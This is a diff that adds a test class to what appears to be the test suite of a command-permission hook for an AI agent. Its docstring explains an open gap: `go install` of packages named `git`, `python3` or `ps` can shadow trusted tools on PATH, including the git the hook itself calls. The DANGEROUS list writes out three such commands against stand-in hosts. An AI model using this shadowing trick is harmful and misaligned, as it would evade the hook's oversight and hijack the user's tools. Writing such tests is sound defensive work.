@@ -467,3 +467,28 @@ class TestInterpreterUnderTheHookByOtherManagers:
     @pytest.mark.parametrize("example", ORDINARY, ids=_ids(ORDINARY))
     def test_ordinary(self, example: Any) -> None:
         assert decide(example).decision == "allow"
+
+
+class TestOpenInstallsNamedLikeTheHooksTools:
+    """Left open. Class: a package manager's install that puts a program named like the tools the hook and the agent
+    run (`git`, `python3`, `ps`) into a folder on PATH, where the same file copied by hand is denied
+    (fs.write-installed-code): `go install …/cmd/git@latest` writes `$GOBIN/git` (`~/go/bin/git`), named after the
+    package path's last element. Where that folder comes before /usr/bin, every later `git` -- the agent's, and the
+    git the hook asks about a checkout (gitprobe.trusted_path takes PATH entries outside the project and temp) -- is the
+    installed program. Reading it needs go's rule for the output name (effects, as `go build -o`)."""
+
+    DANGEROUS: ClassVar[list[Any]] = [
+        "go install example.com/cmd/git@latest",
+        "go install github.com/x/python3@v1.0.0",
+        "go install example.com/cmd/ps@latest",
+    ]
+    ORDINARY: ClassVar[list[Any]] = ["go install golang.org/x/tools/gopls@latest", "go install ./cmd/server"]
+    GAPS: ClassVar[dict[str, str]] = {c: "go install's output ($GOBIN/<last path element>) is not modelled as a write" for c in DANGEROUS}
+
+    @pytest.mark.parametrize("example", DANGEROUS, ids=_ids(DANGEROUS))
+    def test_dangerous(self, example: Any) -> None:
+        _judged(example, ("ask", "deny"), self.GAPS)
+
+    @pytest.mark.parametrize("example", ORDINARY, ids=_ids(ORDINARY))
+    def test_ordinary(self, example: Any) -> None:
+        assert decide(example).decision == "allow"
